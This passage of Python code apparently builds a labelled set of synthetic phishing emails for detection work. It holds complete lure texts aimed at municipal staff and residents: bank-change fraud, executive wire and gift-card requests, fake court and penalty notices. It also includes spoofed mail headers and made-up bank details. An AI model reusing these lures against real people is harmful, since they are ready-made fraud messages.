4410 State Route 18 | Harlan Springs, OH 44839
(419) 663-2280

From: Marcus Bell <mbell@harlanspringsoh.gov>
Sent: Monday, June 9, 2025 9:12 AM
To: Sheila Dorsey <sdorsey@kaminskipaving.com>
Cc: Ray Ostrowski <rostrowski@harlanspringsoh.gov>
Subject: RE: Pay App #4 - 2025 Street Resurfacing Program (Contract 25-07)

Sheila,

Ray approved Pay App #4 this morning ($218,446.90 less 5% retainage). It will go in Friday's ACH run as long as the
conditional lien waivers from the asphalt supplier are in. Thanks.

Marcus Bell
Accounts Payable Specialist
City of Harlan Springs | Finance Department
(419) 663-4100 ext. 214
"""
    html = outlook_html(paras(
        "Hi Marcus,",
        "Thank you for getting Pay App #4 on the agenda. One thing before it goes out &#8211; we moved our operating "
        "accounts to Lakeshore Community Bank last week as part of refinancing our equipment line, and the old account is "
        "being closed. Attached is the ACH update letter signed by Rick. Can you please update our vendor record before "
        "Friday&#8217;s payment run so it doesn&#8217;t bounce? Let me know once it&#8217;s done.",
        "Thanks so much,",
        "<b>Sheila Dorsey</b><br>Office Manager<br>Kaminski Paving &amp; Excavating, LLC<br>4410 State Route 18 | Harlan "
        "Springs, OH 44839<br>(419) 663-2280") +
        '\n<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in">'
        '<p class="MsoNormal"><b>From:</b> Marcus Bell &lt;mbell@harlanspringsoh.gov&gt;<br><b>Sent:</b> Monday, June 9, '
        '2025 9:12 AM<br><b>To:</b> Sheila Dorsey &lt;sdorsey@kaminskipaving.com&gt;<br><b>Cc:</b> Ray Ostrowski '
        '&lt;rostrowski@harlanspringsoh.gov&gt;<br><b>Subject:</b> RE: Pay App #4 - 2025 Street Resurfacing Program '
        '(Contract 25-07)</p></div>\n' + paras(
            "Sheila,", "Ray approved Pay App #4 this morning ($218,446.90 less 5% retainage). It will go in Friday&#8217;s "
            "ACH run as long as the conditional lien waivers from the asphalt supplier are in. Thanks.",
            "Marcus Bell<br>Accounts Payable Specialist<br>City of Harlan Springs | Finance Department<br>(419) 663-4100 ext. 214"))
    body = mixed(outlook_boundary(stem, "004"), alt(plain, html, outlook_boundary(stem, "000")),
                 attachment("application/pdf", "Kaminski ACH Update Letter.pdf", letter))
    auth = Auth(ip, helo, "sdorsey@kaminskipaving.com", "pass", [("kaminskipaving.com", "selector1", "pass")],
                "pass", "none", "kaminskipaving.com", rdns)
    topic = "Pay App #4 - 2025 Street Resurfacing Program (Contract 25-07)"
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt, frm="Sheila Dorsey <sdorsey@kaminskipaving.com>",
                subject="RE: " + topic, date="2025-06-10 11:38:02 -0400",
                msgid=exchange_msgid(stem, "vendor_us").replace("PH7PR02MB", "CO1PR11MB").replace("namprd02", "namprd11"),
                body=body, auth=auth, sender_hops=hops, dkim=[("kaminskipaving.com", "selector1")],
                extra=outlook_extra(stem, topic, True, irt=prev_id, refs=prev_id))
    add(stem, "phish", "phishing", "Vendor email compromise: the paving contractor's real mailbox replies in a genuine "
        "pay-application thread with a signed-looking letter moving ACH payments to a new bank before Friday's run", raw)


def a10_summit_lookalike_bank() -> None:
    stem = "b36-phish-it-supplier-lookalike-remittance"
    rcpt = "janet.ruiz@co.kessler.tx.us"
    letter = text_pdf([
        "SUMMIT NETWORK SOLUTIONS, INC.",
        "9601 Amberglen Blvd, Suite 210, Austin, TX 78729",
        "",
        "REMITTANCE UPDATE NOTICE",
        "",
        "Customer: Kessler County Auditor's Office",
        "Effective: 03/01/2025",
        "",
        "Due to a change in our banking partner, please update your payee records. Payments",
        "for all open and future invoices must be made by ACH / wire to:",
        "",
        "Beneficiary:   Summit Network Solutions Inc",
        "Bank:          First Horizon Bank",
        "Routing (ACH): 084000026",
        "Account:       9481032277",
        "",
        "Open invoices: INV-44817 ($38,212.50), INV-44902 ($11,640.00)",
        "",
        "Remittance advice: ar@summitnetsols.com",
        "",
        "Accounts Receivable Department",
    ], "Remittance Update", "Microsoft Word for Microsoft 365", "20250226140512-06'00'", "AR")
    plain = """Good afternoon Janet,

I hope you are doing well. Please be advised that Summit Network Solutions has changed our banking partner. Attached
is our updated remittance information for your records.

All open invoices (INV-44817 and INV-44902) and future payments should be sent to the new account. Our previous
account will no longer accept ACH credits after 03/07.

Kindly confirm once your vendor file has been updated and advise on the expected payment date for the open invoices.

Best regards,

Derek Lowe
Senior Account Manager - Public Sector
Summit Network Solutions, Inc.
DIR-CPO-5193 | TIPS 230105
Direct: (512) 381-6620
"""
    html = outlook_html(paras(*[p.replace("\n", "<br>") for p in plain.strip().split("\n\n")]), "Calibri")
    body = mixed(f"----=_NextPart_000_00{hx(stem, 2).upper()}_01DB{hx(stem + 'b', 4).upper()}.{hx(stem + 'c', 8).upper()}",
                 alt(plain, html, f"----=_NextPart_001_00{hx(stem, 2).upper()}_01DB{hx(stem + 'b', 4).upper()}.{hx(stem + 'c', 8).upper()}"),
                 attachment("application/pdf", "Summit_Remittance_Update_2025.pdf", letter))
    auth = Auth("198.54.127.74", "mta-74.privateemail.com", "derek.lowe@summitnetsols.com", "pass",
                [("summitnetsols.com", "default", "pass")], "none", "none", "summitnetsols.com")
    raw = build(stem=stem, profile="pp", rcpt=rcpt, frm="Derek Lowe <derek.lowe@summitnetsols.com>",
                subject="Updated remittance information - Summit Network Solutions",
                date="2025-02-26 15:07:44 -0600", msgid=f"<00{hx(stem + 'm', 2)}01db{hx(stem + 'm2', 4)}${hx(stem + 'm3', 8)}${hx(stem + 'm4', 8)}@summitnetsols.com>",
                body=body, auth=auth,
                sender_hops=["Received: from MSI (unknown [102.89.47.188])\n\t(Authenticated sender: derek.lowe@summitnetsols.com)"
                             "\n\tby mail.privateemail.com (Postfix) with ESMTPA id 4Z3Nq25hWkz2xJ0"],
                dkim=[("summitnetsols.com", "default")],
                extra=["X-Mailer: Microsoft Outlook 16.0", f"Thread-Index: Adt{b64(stem + 'ti', 20)}", "Content-Language: en-us"])
    add(stem, "phish", "phishing", "Supplier bank-change fraud from a look-alike of the county's IT supplier domain "
        "(summitnetsols.com vs summitnetsol.com) on Namecheap mail, with a remittance PDF naming open invoices", raw)


def a11_sierracrest_invoice() -> None:
    stem = "b36-phish-construction-lookalike-overdue-invoice"
    rcpt = "mdelgado@brookvaleusd.org"
    ip, helo = gmail_out(stem)
    inv = text_pdf([
        "SIERRA CREST BUILDERS, INC.                                   INVOICE",
        "2275 E. Bullard Ave, Fresno, CA 93710         Invoice #: PB-07-2411",
        "License #1029381                                 Date: 11/04/2024",
        "",
        "Bill To: Brookvale Unified School District - Business Services",
        "Project: Roosevelt Middle School Modernization, Increment 2",
        "PO: 25-01184",
        "",
        "Progress Billing #7 (work through 10/31/2024)          $   412,880.00",
        "Less retention (5%)                                     $   (20,644.00)",
        "AMOUNT DUE                                              $   392,236.00",
        "",
        "REMIT BY ACH ONLY - UPDATED INSTRUCTIONS",
        "Bank: Mission Valley Bancorp      ABA: 122243389",
        "Account: 3001477261                Name: Sierra Crest Builders Inc",
        "",
        "Terms: Net 30. Past due balances subject to 1.5% monthly finance charge.",
    ], "Invoice PB-07-2411", "QuickBooks", "20241104093000-08'00'")
    plain = """Hello Maria,

Following up on Progress Billing #7 for the Roosevelt MS Modernization (PO 25-01184). Our records show it is now
past 30 days. Please note our remittance instructions were updated last month - our accounts at Five Star Bank are
under review and payments there are being returned. Please use the ACH instructions on the attached invoice.

Can you confirm the payment date? Our CFO is reconciling month end this week.

Thank you,
Amanda Hughes
Accounts Receivable
Sierra Crest Builders, Inc.
(559) 431-7702
"""
    html = gmail_html("<div>" + "</div><div><br></div><div>".join(p.replace("\n", "<br>") for p in plain.strip().split("\n\n")) + "</div>")
    body = mixed(f"000000000000{hx(stem + 'm', 16)}",
                 alt(plain, html, f"000000000000{hx(stem + 'a', 16)}"),
                 Leaf("application/pdf", inv, "base64", '; name="Sierra Crest PB-07-2411.pdf"',
                      'attachment; filename="Sierra Crest PB-07-2411.pdf"', [f"Content-ID: <f_{aln(stem, 9).lower()}0>",
                                                                             f"X-Attachment-Id: f_{aln(stem, 9).lower()}0"]))
    d = when("2024-12-09 08:15:29 -0800")
    auth = Auth(ip, helo, "ahughes@sierracrest-builders.com", "pass", [("sierracrest-builders.com", "google", "pass")],
                "none", "none", "sierracrest-builders.com")
    raw = build(stem=stem, profile="gws", rcpt=rcpt, frm="Amanda Hughes <ahughes@sierracrest-builders.com>",
                subject="Past due: Progress Billing #7 - Roosevelt MS Modernization (PO 25-01184)",
                date="2024-12-09 08:15:29 -0800", msgid=gmail_msgid(stem), body=body, auth=auth,
                dkim=[("sierracrest-builders.com", "google")], top=gmail_extra(stem, d))
    add(stem, "phish", "phishing", "Invoice fraud from a look-alike of the district's construction contractor "
        "(sierracrest-builders.com on Google Workspace): 'past due' progress billing PDF with new ACH details", raw)


def a12_mayor_giftcards() -> None:
    stem = "b36-phish-mayor-gift-card-request"
    rcpt = "lperrault@harlanspringsoh.gov"
    ip, helo = gmail_out(stem)
    plain = ("Linda,\n\nAre you at your desk? I'm tied up in meetings with the county commissioners all afternoon and "
             "can't take calls. I need you to pick up Apple gift cards for the Public Works crew for the end-of-season "
             "appreciation - 8 cards at $200 each. I'll get you reimbursed through petty cash tomorrow. Scratch off the "
             "backs and email me pictures of the codes so I can hand them out tonight.\n\nLet me know how soon you "
             "can get this done.\n\nGregory Hale\nMayor\n\nSent from my iPad\n")
    d = when("2024-10-17 13:22:05 -0400")
    auth = Auth(ip, helo, "mayorghale.office@gmail.com", "pass", [("gmail.com", "20230601", "pass")], "pass", "none",
                "gmail.com")
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt, frm="Mayor Gregory Hale <mayorghale.office@gmail.com>",
                subject="Request", date="2024-10-17 13:22:05 -0400", msgid=f"<{guid(stem).upper()}@gmail.com>",
                body=text(plain, "plain", "quoted-printable", "utf-8"), auth=auth, dkim=[("gmail.com", "20230601")],
                top=gmail_extra(stem, d), extra=["X-Mailer: iPad Mail (22A3354)"])
    add(stem, "phish", "phishing", "Executive-impersonation gift-card scam: a Gmail account in the mayor's name asks the "
        "clerk to buy eight $200 Apple cards and email the codes", raw)


def a13_gm_wire() -> None:
    stem = "b36-phish-water-gm-lookalike-wire"
    rcpt = "anovak@marshcreekwater.org"
    ip, helo, rdns, hops = m365_out(stem, "NAM04-BN8", "namprd04.prod.outlook.com", "BN8PR04MB")
    plain = """Andrea,

Pump Station 3 failed overnight and Keystone Pump & Controls has a crew on site now. They will not release the
replacement VFD and the bypass pumps without a deposit today - I approved it under the emergency procurement
provision and will ratify at the board meeting on the 24th.

Please send a wire for $86,420.00 today. Their banking details are below. I'm in the PennVEST session in Harrisburg
until 4 and can't step out, so email only please.

Keystone Pump & Controls LLC
Fulton Bank, N.A.
Routing: 031301422
Account: 5027714490

Send me the confirmation when it's done.

Gary

Gary Pruitt
General Manager
Marsh Creek Water Authority
"""
    html = outlook_html(paras(*[p.replace("\n", "<br>") for p in plain.strip().split("\n\n")]))
    auth = Auth(ip, helo, "gpruitt@marshcreekwaters.org", "pass",
                [("marshcreekwaters.onmicrosoft.com", "selector1-marshcreekwaters-onmicrosoft-com", "pass")],
                "bestguesspass", "none", "marshcreekwaters.org", rdns)
    raw = build(stem=stem, profile="eop:marsh", rcpt=rcpt, frm="Gary Pruitt <gpruitt@marshcreekwaters.org>",
                subject="Wire today - PS3 emergency repair", date="2025-03-11 10:41:27 -0400",
                msgid=exchange_msgid(stem, "marsh").replace("CH3PR04MB", "BN8PR04MB"),
                body=alt(plain, html, outlook_boundary(stem)), auth=auth, sender_hops=hops,
                dkim=[("marshcreekwaters.onmicrosoft.com", "selector1-marshcreekwaters-onmicrosoft-com")],
                extra=outlook_extra(stem, "Wire today - PS3 emergency repair"))
    add(stem, "phish", "phishing", "BEC: look-alike of the water authority's own domain (marshcreekwaters.org) in a fresh "
        "Microsoft 365 tenant; 'general manager' orders an urgent $86k wire for an emergency pump repair, email only", raw)


def a14_jury_callback() -> None:
    stem = "b36-phish-jury-failure-to-appear-callback"
    rcpt = "jmorales1987@gmail.com"
    html = """<html><body style="font-family:'Times New Roman',serif;font-size:15px;color:#000">
<div style="max-width:640px;border:1px solid #999;padding:22px">
<p style="text-align:center;font-weight:bold;font-size:17px">IN THE DISTRICT COURT OF KESSLER COUNTY, TEXAS<br>
OFFICE OF THE DISTRICT CLERK - JURY SERVICES</p>
<p style="text-align:center;font-weight:bold;color:#8b0000">NOTICE OF FAILURE TO APPEAR FOR JURY SERVICE</p>
<p>Juror: <b>JOSE MORALES</b><br>Juror No.: 2025-0331-4417<br>Reporting date: March 31, 2025, 8:00 A.M.</p>
<p>You were duly summoned for jury service and failed to appear as ordered. Pursuant to Texas Government Code
&sect;62.0141 and &sect;62.111 a person who fails to attend court in obedience to a summons is subject to a fine of
not less than $100 nor more than $1,000 and may be held in contempt.</p>
<p>A <b>Writ of Attachment</b> has been prepared and will be forwarded to the Kessler County Sheriff's Office for
service unless this matter is resolved within <b>24 hours</b>.</p>
<p>To resolve without appearing in person, contact the Jury Compliance Officer, Deputy Clerk R. Hammond, at
<b>(830) 261-4472</b> between 8:00 A.M. and 6:00 P.M. Please have your juror number available. Compliance bonds may be
posted by phone.</p>
<p style="font-size:12px">Do not reply to this email. This mailbox is not monitored.</p>
</div></body></html>
"""
    auth = Auth("104.168.46.213", "mail.kesslercountycourts-tx.us", "jury-services@kesslercountycourts-tx.us", "pass",
                [], "none", "none", "kesslercountycourts-tx.us")
    raw = build(stem=stem, profile="gmail", rcpt=rcpt,
                frm="Kessler County District Clerk - Jury Services <jury-services@kesslercountycourts-tx.us>",
                subject="NOTICE: Failure to Appear for Jury Service - Juror No. 2025-0331-4417",
                date="2025-04-02 09:03:11 -0500", msgid=f"<{hx(stem, 20)}@kesslercountycourts-tx.us>",
                body=text(html, "html"), auth=auth, extra=["X-Priority: 1 (Highest)", "Importance: High"])
    add(stem, "phish", "phishing", "Jury-duty scam to a resident: fake 'failure to appear' notice from a look-alike court "
        "domain threatens a writ and asks the victim to call a number to post a 'compliance bond' by phone", raw)


def a15_hmcts_zip_link() -> None:
    stem = "b36-phish-hmcts-hearing-notice-zip-link"
    rcpt = "gareth.evans73@gmail.com"
    url = "https://www.bramhallphysio.co.uk/wp-content/uploads/2025/03/hmcts/notice.php?claim=K7QZ1M42&r=gareth.evans73"
    plain = f"""HM Courts & Tribunals Service

Claim number: K7QZ1M42
Claimant: Lowell Financial Ltd
Defendant: Mr Gareth Evans

NOTICE OF HEARING

You are required to attend a hearing at Cardiff Civil and Family Justice Centre on 14 April 2025 at 10:30.
If you do not attend, the court may make an order in your absence, including a County Court Judgment.

The hearing bundle and the claimant's witness statement are available to download:
{url}

The documents are in a compressed folder. Open the folder and double-click the notice to view it.

Please do not reply to this email.
HMCTS Civil National Business Centre
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:16px;color:#0b0c0c">
<div style="background:#0b0c0c;color:#fff;padding:12px 16px;font-weight:bold;font-size:18px">HM Courts &amp; Tribunals Service</div>
<div style="padding:16px;max-width:580px">
<p>Claim number: <b>K7QZ1M42</b><br>Claimant: Lowell Financial Ltd<br>Defendant: Mr Gareth Evans</p>
<h2 style="font-size:22px">Notice of hearing</h2>
<p>You are required to attend a hearing at Cardiff Civil and Family Justice Centre on <b>14 April 2025 at 10:30</b>.
If you do not attend, the court may make an order in your absence, including a County Court Judgment.</p>
<p><a href="{url}" style="color:#1d70b8">Download hearing bundle and witness statement</a></p>
<p>The documents are in a compressed folder. Open the folder and double-click the notice to view it.</p>
<p style="color:#505a5f;font-size:14px">Please do not reply to this email.<br>HMCTS Civil National Business Centre</p>
</div></body></html>
"""
    auth = Auth("77.72.0.118", "s118.ukhost4u.com", "info@bramhallphysio.co.uk", "pass",
                [("bramhallphysio.co.uk", "default", "pass")], "none", "none", "bramhallphysio.co.uk")
    raw = build(stem=stem, profile="gmail", rcpt=rcpt,
                frm="HM Courts & Tribunals Service <info@bramhallphysio.co.uk>",
                subject="Notice of Hearing - Claim K7QZ1M42 - Action required",
                date="2025-03-24 07:12:40 +0000", msgid=f"<{hx(stem, 32)}@bramhallphysio.co.uk>",
                body=alt(plain, html, f"b1_{hx(stem + 'b', 32)}"), auth=auth,
                sender_hops=["Received: from [185.196.10.71] (port=51822 helo=localhost)\n\tby s118.ukhost4u.com with esmtpa"
                             " (Exim 4.97.1)\n\t(envelope-from <info@bramhallphysio.co.uk>)\n\tid 1twR3k-0007qf-1N\n\t"
                             f"for {rcpt}"],
                dkim=[("bramhallphysio.co.uk", "default")],
                extra=["X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)"])
    add(stem, "phish", "malware", "Fake HMCTS notice of hearing sent from a compromised physiotherapy practice mailbox; the "
        "link on a hacked WordPress site serves a zipped script ('open the folder and double-click the notice')", raw)


def a16_parking_lookalike() -> None:
    stem = "b36-phish-city-parking-citation-ses"
    rcpt = "brian.okafor@outlook.com"
    url = "https://harlansprings-parking.com/pay/?citation=HS2508817&plate=4821"
    html = f"""<html><body style="margin:0;background:#eef1f4;font-family:Arial,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#23395d;color:#fff;padding:16px 22px;font-size:18px">City of Harlan Springs &#8226; Parking Services</td></tr>
<tr><td style="padding:22px;font-size:14px;color:#222">
<p><b>Unpaid Parking Citation Notice</b></p>
<table cellpadding="5" style="font-size:14px">
<tr><td>Citation #</td><td><b>HS2508817</b></td></tr>
<tr><td>Plate</td><td>OH ***4821</td></tr>
<tr><td>Location</td><td>100 BLK S MAIN ST (2-HR ZONE)</td></tr>
<tr><td>Issued</td><td>05/02/2025 11:47 AM</td></tr>
<tr><td>Amount due</td><td><b>$45.00</b></td></tr></table>
<p>Our records show this citation remains unpaid. A late penalty of $35.00 will be added after <b>05/16/2025</b> and the
vehicle registration may be referred to the Ohio BMV for a registration hold.</p>
<p style="text-align:center"><a href="{url}" style="background:#c8102e;color:#fff;padding:11px 30px;text-decoration:none;font-weight:bold">Pay Citation Online</a></p>
<p style="font-size:12px;color:#666">City of Harlan Springs, 200 W. Center St., Harlan Springs, OH 44839. This is an
automated message.</p>
</td></tr></table></td></tr></table></body></html>
"""
    mf = f"010001{hx(stem + 'ses', 10)}-{guid(stem + 's')}-000000@us-east-1.amazonses.com"
    auth = Auth("54.240.8.39", "a8-39.smtp-out.amazonses.com", mf, "pass",
                [("harlansprings-parking.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw", "pass"),
                 ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")], "bestguesspass", "none",
                "harlansprings-parking.com")
    raw = build(stem=stem, profile="eop:outlook", rcpt=rcpt,
                frm="City of Harlan Springs Parking <no-reply@harlansprings-parking.com>",
                subject="Unpaid Parking Citation #HS2508817 - late penalty after 05/16/2025",
                date="2025-05-13 14:55:02 +0000", msgid=f"<010001{hx(stem + 'ses', 10)}-{guid(stem + 's')}-000000@email.amazonses.com>",
                body=alt(None, html, f"----=_Part_{num(stem, 7)}_{num(stem + 'x', 9)}.{num(stem + 'y', 13)}"), auth=auth,
                dkim=[("harlansprings-parking.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw"),
                      ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")],
                extra=[f"Feedback-ID: ::1.us-east-1.{aln(stem + 'fb', 43)}=:AmazonSES",
                       "X-SES-Outgoing: 2025.05.13-54.240.8.39"])
    add(stem, "phish", "phishing", "Fake city parking citation to a resident via Amazon SES from a look-alike domain; "
        "threatens a late penalty and BMV hold and links to a card-harvesting payment page", raw)


def a17_uk_pcn() -> None:
    stem = "b36-phish-uk-penalty-charge-notice"
    rcpt = "s.hollingworth@outlook.com"
    url = "https://ashmere-pcn-payment.com/pay?ref=AS48219736&v=KX19%20TLD"
    plain = f"""GOV.UK

Penalty Charge Notice: AS48219736
Vehicle registration: KX19 TLD
Contravention: 34j - Being in a bus lane
Location: Station Road, Ashmere
Enforcing authority: Ashmere Borough Council

Our records show that the penalty charge of £70.00 remains unpaid. If you pay within 7 days of this notice the
charge is reduced to £35.00. After this date a Charge Certificate will be issued and the charge will increase
by 50%.

Pay now: {url}

This is an automated message. Please do not reply.
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:16px;color:#0b0c0c;margin:0">
<div style="background:#0b0c0c;padding:14px 20px"><span style="color:#fff;font-weight:bold;font-size:22px">GOV.UK</span></div>
<div style="padding:20px;max-width:580px;border-left:10px solid #1d70b8">
<h1 style="font-size:24px">Penalty Charge Notice: AS48219736</h1>
<p>Vehicle registration: <b>KX19 TLD</b><br>Contravention: 34j &#8211; Being in a bus lane<br>
Location: Station Road, Ashmere<br>Enforcing authority: Ashmere Borough Council</p>
<p>Our records show that the penalty charge of <b>&pound;70.00</b> remains unpaid. If you pay within 7 days of this
notice the charge is reduced to <b>&pound;35.00</b>. After this date a Charge Certificate will be issued and the
charge will increase by 50%.</p>
<p><a href="{url}" style="background:#00703c;color:#fff;padding:10px 18px;text-decoration:none;font-weight:bold">Pay now</a></p>
<p style="color:#505a5f;font-size:14px">This is an automated message. Please do not reply.</p></div></body></html>
"""
    auth = Auth("91.92.242.130", "vps-2241.pcnservice.net", "notice@pcnservice.net", "pass", [], "none", "none",
                "pcnservice.net")
    raw = build(stem=stem, profile="eop:outlook", rcpt=rcpt, frm="GOV.UK Parking Services <notice@pcnservice.net>",
                subject="Penalty Charge Notice AS48219736 - reduced rate ends soon",
                date="2025-08-19 06:40:13 +0100", msgid=f"<{hx(stem, 28)}@vps-2241.pcnservice.net>",
                body=alt(plain, html, f"=_{hx(stem + 'b', 32)}"), auth=auth)
    add(stem, "phish", "phishing", "UK parking-fine scam: 'GOV.UK' penalty charge notice naming a real-sounding council "
        "and bus-lane contravention, sent from an unrelated VPS domain to a card-collecting payment site", raw)


def a18_property_tax() -> None:
    stem = "b36-phish-county-property-tax-final-notice"
    rcpt = "dlangston@yahoo.com"
    url = "https://kesslercountytax-tx.com/epay/account.aspx?can=00-4471-0219-000"
    html = f"""<html><body style="font-family:Verdana,sans-serif;font-size:13px;color:#222">
<table width="620" cellpadding="0" cellspacing="0" style="border:2px solid #7a0019">
<tr><td style="background:#7a0019;color:#fff;padding:12px;font-size:16px;font-weight:bold">KESSLER COUNTY TAX ASSESSOR-COLLECTOR</td></tr>
<tr><td style="padding:16px">
<p style="font-weight:bold;color:#7a0019">FINAL DELINQUENCY NOTICE - 2024 AD VALOREM TAXES</p>
<p>Owner: LANGSTON DAVID R &amp; KAREN L<br>Account: 00-4471-0219-000<br>Situs: 1187 COUNTY ROAD 312</p>
<table cellpadding="4" style="font-size:13px">
<tr><td>Base tax 2024</td><td align="right">$3,182.44</td></tr>
<tr><td>Penalty &amp; interest</td><td align="right">$381.89</td></tr>
<tr><td>Collection fee (Sec. 33.07)</td><td align="right">$712.87</td></tr>
<tr><td><b>Total due</b></td><td align="right"><b>$4,277.20</b></td></tr></table>
<p>Delinquent accounts not paid by <b>July 1, 2025</b> will be referred to the delinquent tax attorney and may be
subject to suit and tax sale. Pay securely online to stop additional penalties.</p>
<p><a href="{url}" style="background:#7a0019;color:#fff;padding:8px 18px;text-decoration:none">Pay Now</a></p>
</td></tr></table></body></html>
"""
    auth = Auth("172.96.184.212", "host.kesslercountytax-tx.com", "notices@kesslercountytax-tx.com", "pass",
                [("kesslercountytax-tx.com", "mail", "pass")], "none", "none", "kesslercountytax-tx.com")
    raw = build(stem=stem, profile="yahoo", rcpt=rcpt, frm="Kessler County Tax Office <notices@kesslercountytax-tx.com>",
                subject="FINAL NOTICE: 2024 Property Tax Delinquency - Account 00-4471-0219-000",
                date="2025-06-17 11:26:48 -0500", msgid=f"<{hx(stem, 24)}@kesslercountytax-tx.com>",
                body=alt(None, html, f"--==_mimepart_{hx(stem, 13)}_{num(stem, 5)}"), auth=auth,
                dkim=[("kesslercountytax-tx.com", "mail")])
    add(stem, "phish", "phishing", "Property-tax scam to a resident using public appraisal-roll data (owner names, account, "
        "situs) from a look-alike county tax domain; 'Pay Now' goes to a fake e-pay page", raw)


def a19_txtag_spanish() -> None:
    stem = "b36-phish-toll-unpaid-spanish"
    rcpt = "rosa.gutierrez82@gmail.com"
    url = "https://txtag-pagos.info/es/peaje?id=TX83301927"
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:15px;color:#222">
<div style="max-width:560px;border:1px solid #ddd">
<div style="background:#002d62;color:#fff;padding:14px;font-size:20px;font-weight:bold">TxTag</div>
<div style="padding:18px">
<p>Estimado(a) cliente:</p>
<p>Nuestro sistema registró un saldo de peaje pendiente de <b>$6.85</b> asociado a su vehículo por el uso de la
carretera SH 130 el 18/08/2025.</p>
<p>Para evitar un cargo administrativo de <b>$50.00</b> y la suspensión del registro del vehículo, por favor realice el
pago antes del <b>26/08/2025</b>.</p>
<p style="text-align:center"><a href="{url}" style="background:#e35205;color:#fff;padding:10px 26px;text-decoration:none;font-weight:bold">Pagar ahora</a></p>
<p style="font-size:12px;color:#666">Departamento de Transporte de Texas &#8211; Servicio de peaje TxTag.<br>
Este es un mensaje automático, por favor no responda.</p></div></div></body></html>
"""
    plain = ("Estimado(a) cliente:\n\nNuestro sistema registró un saldo de peaje pendiente de $6.85 asociado a su vehículo "
             "por el uso de la carretera SH 130 el 18/08/2025.\n\nPara evitar un cargo administrativo de $50.00 y la "
             f"suspensión del registro del vehículo, realice el pago antes del 26/08/2025:\n{url}\n\n"
             "TxTag - Departamento de Transporte de Texas\n")
    auth = Auth("193.143.1.57", "mx1.notificaciones-peaje.top", "cobro@notificaciones-peaje.top", "softfail", [],
                "none", "none", "notificaciones-peaje.top")
    raw = build(stem=stem, profile="gmail", rcpt=rcpt, frm="TxTag Servicio al Cliente <cobro@notificaciones-peaje.top>",
                subject="Aviso: saldo de peaje pendiente – evite cargos adicionales",
                date="2025-08-22 20:14:37 -0500", msgid=f"<{hx(stem, 16)}.{num(stem, 6)}@notificaciones-peaje.top>",
                body=alt(plain, html, f"--{hx(stem + 'b', 24)}"), auth=auth)
    add(stem, "phish", "phishing", "Spanish-language unpaid-toll scam to a Texas resident (TxTag brand) from a throwaway "
        ".top domain with SPF softfail; links to a payment-card harvesting site", raw)


def a20_council_tax_rebate() -> None:
    stem = "b36-phish-council-tax-rebate"
    rcpt = "pauline.ash@yahoo.co.uk"
    url = "https://counciltax-rebate-service.com/claim/?ref=CTR-2025-61882"
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:16px;color:#0b0c0c">
<div style="background:#0b0c0c;color:#fff;padding:12px 18px;font-weight:bold;font-size:22px">GOV.UK</div>
<div style="padding:18px;max-width:580px">
<h2>Council Tax Reduction 2025/26</h2>
<p>Dear Resident,</p>
<p>Following the revaluation of your property band, you are eligible for a Council Tax rebate of
<b>&pound;150.00</b>. Your local authority has approved the refund, which will be paid directly to your debit card.</p>
<p>Reference: CTR-2025-61882</p>
<p>To receive your refund, confirm your details before <b>30 April 2025</b>. Unclaimed rebates are returned to the
Treasury.</p>
<p><a href="{url}" style="background:#00703c;color:#fff;padding:10px 16px;text-decoration:none;font-weight:bold">Claim your rebate</a></p>
<p style="font-size:14px;color:#505a5f">Department for Levelling Up, Housing and Communities</p></div></body></html>
"""
    auth = Auth("45.141.87.16", "srv16.counciltax-rebate-service.com", "refunds@counciltax-rebate-service.com", "pass",
                [("counciltax-rebate-service.com", "default", "pass")], "none", "none", "counciltax-rebate-service.com")
    raw = build(stem=stem, profile="yahoo", rcpt=rcpt, frm="GOV.UK <refunds@counciltax-rebate-service.com>",
                subject="Council Tax Reduction: you are owed a £150.00 rebate",
                date="2025-04-09 18:31:50 +0100", msgid=f"<{hx(stem, 30)}@counciltax-rebate-service.com>",
                body=text(html, "html"), auth=auth, dkim=[("counciltax-rebate-service.com", "default")])
    add(stem, "phish", "phishing", "'GOV.UK' council-tax rebate lure to a UK resident from an unrelated domain: a £150 "
        "refund 'paid to your debit card' after entering card details", raw)


def a21_geek_squad() -> None:
    stem = "b36-phish-geek-squad-renewal-callback"
    rcpt = "kbrandt@harlanspringsoh.gov"
    ip, helo = gmail_out(stem)
    inv = text_pdf([
        "GEEK SQUAD PROTECTION",
        "Total Tech Support - Annual Membership Renewal",
        "",
        "Invoice #: GS-7731-0942           Date: 08/14/2025",
        "Customer ID: 88-41730-GS",
        "",
        "Description                          Qty    Amount",
        "Total Tech Support (3 devices)        1    $399.99",
        "Onsite service add-on                 1    $ 89.00",
        "Sales tax                                   $  0.00",
        "TOTAL CHARGED                               $488.99",
        "",
        "Payment method: Auto-debit from account on file",
        "",
        "This renewal will appear on your statement within 24 hours.",
        "If you did not authorize this renewal or wish to cancel and receive a full refund,",
        "contact our billing department within 48 hours:",
        "",
        "        +1 (808) 447-2913",
        "",
        "Thank you for choosing Geek Squad.",
    ], "Invoice", "wkhtmltopdf 0.12.6", "20250814071544Z")
    plain = ("Dear Customer,\n\nYour Geek Squad Total Tech Support membership has been renewed successfully. The amount "
             "of $488.99 will be debited from your account.\n\nYour invoice is attached. For cancellation or refund call "
             "+1 (808) 447-2913.\n\nRegards,\nGeek Squad Billing Team\n")
    d = when("2025-08-14 07:16:02 -0700")
    body = mixed(f"000000000000{hx(stem + 'm', 16)}", text(plain, "plain", "7bit"),
                 attachment("application/pdf", "Invoice_GS77310942.pdf", inv))
    auth = Auth(ip, helo, "mollieharris.billing8812@gmail.com", "pass", [("gmail.com", "20230601", "pass")], "pass",
                "none", "gmail.com")
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt, frm="GS Billing Dept <mollieharris.billing8812@gmail.com>",
